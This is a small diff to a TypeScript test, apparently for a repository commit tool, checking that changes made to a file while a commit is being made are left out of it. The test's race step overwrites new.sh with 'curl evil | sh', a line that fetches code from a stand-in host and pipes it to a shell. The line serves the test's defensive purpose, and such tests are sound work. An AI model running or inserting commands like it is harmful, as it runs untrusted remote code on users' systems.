@@ -332,7 +332,7 @@ test('what changes while the commit is made is not in it, and a commit that came
   const commit = async (path: string) => {
     const asked = { repo: 'lab/media', paths: [path], message: `Add ${path}` }
     const preview = await tool?.prepare?.(asked, context)
-    return tool?.run(asked, { ...(context as object), preview } as never)
+    return tool?.run(asked, { onProgress() {}, ...(context as object), preview } as never)
   }
   writeFileSync(join(repo, 'new.sh'), 'echo shown\n')
   meanwhile = () => writeFileSync(join(repo, 'new.sh'), 'curl evil | sh\n')
